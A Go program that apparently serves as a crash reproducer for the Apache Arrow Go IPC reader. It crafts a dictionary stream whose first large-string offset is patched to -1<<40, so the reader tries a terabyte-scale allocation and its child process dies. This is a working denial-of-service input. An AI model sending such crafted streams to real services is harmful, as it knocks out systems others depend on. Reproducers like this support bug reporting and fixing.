// A dictionary whose first offset is -1<<40, and a delta: the reader of streams allocates a terabyte to join them, which
// ends the process.
package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"strings"

	"github.com/apache/arrow-go/v18/arrow"
	"github.com/apache/arrow-go/v18/arrow/array"
	"github.com/apache/arrow-go/v18/arrow/ipc"
	"github.com/apache/arrow-go/v18/arrow/memory"
)

// stream is a dictionary, a batch, a delta and a batch.
func stream() []byte {
	dt := &arrow.DictionaryType{IndexType: arrow.PrimitiveTypes.Int8, ValueType: arrow.BinaryTypes.LargeString}
	schema := arrow.NewSchema([]arrow.Field{{Name: "d", Type: dt}}, nil)
	var out bytes.Buffer
	w := ipc.NewWriter(&out, ipc.WithSchema(schema), ipc.WithDictionaryDeltas(true))
	for _, words := range []string{`["a", "b"]`, `["a", "b", "c"]`} {
		values, _, err := array.FromJSON(memory.DefaultAllocator, dt.ValueType, strings.NewReader(words))
		check(err)
		indices, _, err := array.FromJSON(memory.DefaultAllocator, dt.IndexType, strings.NewReader("[0, 1]"))
		check(err)
		check(w.Write(array.NewRecordBatch(schema, []arrow.Array{array.NewDictionaryArray(dt, indices, values)}, 2)))
	}
	check(w.Close())
	return out.Bytes()
}

func check(err error) {
	if err != nil {
		panic(err)
	}
}

func main() {
	b := stream()
	offsets := func(first int64) (b []byte) {
		for _, v := range []int64{first, 1, 2} {
			b = binary.LittleEndian.AppendUint64(b, uint64(v))
		}
		return b
	}
	b = bytes.Replace(b, offsets(0), offsets(-1<<40), 1)
	if len(os.Args) > 1 { // the child
		r, err := ipc.NewReader(bytes.NewReader(b))
		check(err)
		for r.Next() {
		}
		fmt.Println("the end of the stream:", r.Err())
		return
	}
	out, err := exec.Command(os.Args[0], "child").CombinedOutput()
	line, _, _ := strings.Cut(string(out), "\n")
	fmt.Printf("a stream of %d bytes: %s\n", len(b), line)
	if err != nil {
		fmt.Println("reproduced: the reader ended its process:", err)
		return
	}
	fmt.Println("not reproduced: the process went on")
}
